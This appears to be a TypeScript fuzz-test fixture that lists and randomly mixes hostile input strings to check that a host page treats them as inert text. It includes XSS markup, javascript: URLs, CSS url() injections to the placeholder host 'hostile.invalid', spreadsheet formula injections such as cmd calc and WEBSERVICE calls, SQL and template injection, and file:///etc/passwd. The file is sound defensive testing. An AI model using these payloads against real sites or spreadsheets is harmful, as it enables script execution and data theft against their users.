import type { Dice } from "../chaos/dice.js";
import { createDice } from "../chaos/dice.js";

/** A host that only a text that is not taken as text would ask. */
export const FAR = "hostile.invalid";

/** Calls that no text may bring about; a page notes them (`watchHostPage`). */
const RUN = "alert(1)";

const markup = [
  `<script>${RUN}</script>`,
  `<script src=//${FAR}/x.js></script>`,
  `<img src=x onerror=${RUN}>`,
  `<img src="https://${FAR}/x.png" srcset="https://${FAR}/y.png 2x">`,
  `"><svg onload=${RUN}>`,
  `'><svg/onload=${RUN}//`,
  `<svg><script href="https://${FAR}/x.js"/></svg>`,
  `<svg><image href="https://${FAR}/x.png"/><use href="https://${FAR}/x.svg#a"/></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text>x</text></a></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<object data="https://${FAR}/x"></object><embed src="https://${FAR}/x">`,
  `<link rel=stylesheet href="https://${FAR}/x.css"><style>@import "https://${FAR}/y.css";</style>`,
  `<style>*{background:url(https://${FAR}/x)}</style>`,
  `<p style="background:url(https://${FAR}/x)" onclick="${RUN}" onpointerenter="${RUN}">x</p>`,
  `<details open ontoggle=${RUN}><summary>x</summary></details>`,
  `<input autofocus onfocus=${RUN}><video><source onerror=${RUN}></video>`,
  `<body onload=${RUN}><base href="https://${FAR}/"><meta http-equiv=refresh content="0;url=https://${FAR}/">`,
  `<form action="https://${FAR}/"><button formaction="javascript:${RUN}">x</button></form>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<template shadowrootmode=open><slot onslotchange=${RUN}></slot></template>`,
  `<tick-stream src="https://${FAR}/"></tick-stream><div data-tickline="line-chart" data-src="https://${FAR}/"></div>`,
  `</title></text></svg></style></textarea></script><script>${RUN}</script>`,
  `<!--<img src="--><img src=x onerror=${RUN}//">`,
  `<![CDATA[<script>${RUN}</script>]]>`,
  `]]><script>${RUN}</script><![CDATA[`,
  `<?xml-stylesheet href="https://${FAR}/x.css"?>`,
  `<!DOCTYPE x [<!ENTITY y SYSTEM "https://${FAR}/y">]><x>&y;</x>`,
  "&lt;b&gt; &amp;amp; &#60;i&#62; &quot;&apos; &nbsp;&colon;&Tab;&bogus;",
  "<b>bold</b>",
  "a < b > c & d \" e ' f ` g",
];

const addresses = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  ` \u0001javascript:${RUN}`,
  `java\nscript:${RUN}`,
  `javascript&colon;${RUN}`,
  `vbscript:msgbox(1)`,
  `data:text/html,<script>${RUN}</script>`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>`,
  `blob:https://${FAR}/x`,
  `//${FAR}/x`,
  `https://user:secret@${FAR}/x?token=1#a`,
  "file:///etc/passwd",
  "..\\..\\x",
];

const styles = [
  `red;background:url(https://${FAR}/x)`,
  `url(https://${FAR}/x)`,
  `var(--none, url(https://${FAR}/x))`,
  `image-set("https://${FAR}/x" 1x)`,
  `env(none, url(https://${FAR}/x))`,
  `if(style(--a: b): red; else: url(https://${FAR}/x))`,
  `attr(title type(<color>), url(https://${FAR}/x))`,
  `expression(${RUN})`,
  `}*{background:url(https://${FAR}/x)}`,
  `\\75rl(https://${FAR}/x)`,
  `u/**/rl(https://${FAR}/x)`,
  `paint(x), element(#a), cross-fade(url(https://${FAR}/x), red)`,
  `url("#x") url('https://${FAR}/x')`,
];

/** Texts that a spreadsheet would run, if they stood at the beginning of a cell. */
const formulas = [
  `=HYPERLINK("https://${FAR}/?"&A1,"x")`,
  `=WEBSERVICE("https://${FAR}/")`,
  "=cmd|' /C calc'!A0",
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '=1+1",=2+2,"=3+3',
  'x;=1+1;"y"',
  "x\t=1+1",
  'x"\r\n=1+1,"',
  "x\n@A1",
  "\t=1+1",
  "\r=1+1",
  "＝1+1",
  "；=1+1",
  "'=1+1",
  " =1+1",
];

const scripts = [
  `\${${RUN}}`,
  `{{constructor.constructor('${RUN}')()}}`,
  `{value:${RUN}}`,
  "{__proto__} {constructor.name} {0} {",
  `#{${RUN}} <%= ${RUN} %> [[${RUN}]] {% x %}`,
  `';${RUN};'`,
  `"-${RUN}-"`,
  `\\"});${RUN};//`,
  "%s %n %d %x %c",
  "$& $1 $` $' $$ $<x>",
  "'; DROP TABLE rows; --",
  "(a+)+$",
];

const names = ["__proto__", "constructor", "prototype", "toString", "hasOwnProperty", "then", "length", "0", "-1"];
const words = ["null", "undefined", "NaN", "Infinity", "true", "[object Object]", "1e999", "0x10"];

const letters = [
  "\u0000\u0001\u0008\u000b\u001b[31mred\u001b[0m",
  "\ud800 lone \udc00",
  "\ufeffmark\uffff\ufffe",
  "\u202Egnp.exe\u202C \u2066x\u2069 \u200Fy\u200E",
  "a\u200bb\u200cc\u200dd\u2060e\u00ade",
  "Z\u0351\u036b\u0343\u036a\u0302a\u0334\u0341l\u0321g\u0337o".repeat(20),
  "👩‍👩‍👧‍👦🏳️‍🌈e\u0301 fi İstanbul ß",
  "خادم 2 (CPU) שרת",
  "line one\nline two\r\nline three\u2028four\u2029five\u0085six",
  "\u00a0 spaces \u3000 \t tabs ",
  "x".repeat(5_000),
  "W ".repeat(2_000),
  "\u0338".repeat(300),
];

const lists = [markup, addresses, styles, formulas, scripts, names, words, letters] as const;

/** All texts that are written down here, none of them empty. */
export const writtenTexts: readonly string[] = lists.flat();

/** Addresses and styles, for options that take a colour or an address. */
export const hostileValues: readonly string[] = [...addresses, ...styles, ...markup, ...scripts];

/** A text of parts of others: what escapes one context may open another. */
function mixed({ between, one, chance }: Dice): string {
  const piece = (): string => {
    const text = one(writtenTexts.filter(({ length }) => length < 200));
    if (chance(0.5)) return text;
    const from = between(0, text.length);
    return text.slice(from, from + between(1, 40));
  };
  const noise = (): string => String.fromCharCode(...Array.from({ length: between(1, 6) }, () => between(0, 0xffff)));
  return Array.from({ length: between(1, 4) }, () => (chance(0.15) ? noise() : piece())).join(
    one(["", " ", '"', "'", ">", "\n", ";", "\t"]),
  );
}

/** Makes so many texts of an enemy: those that are written down, and mixtures of them, by a seed. */
export function hostileTexts(seed: number, count: number): string[] {
  const dice = createDice(seed);
  const texts = [...writtenTexts];
  while (texts.length < count) {
    const text = mixed(dice);
    if (text.trim() !== "") texts.push(text);
  }
  return texts.slice(0, Math.max(count, writtenTexts.length));
}
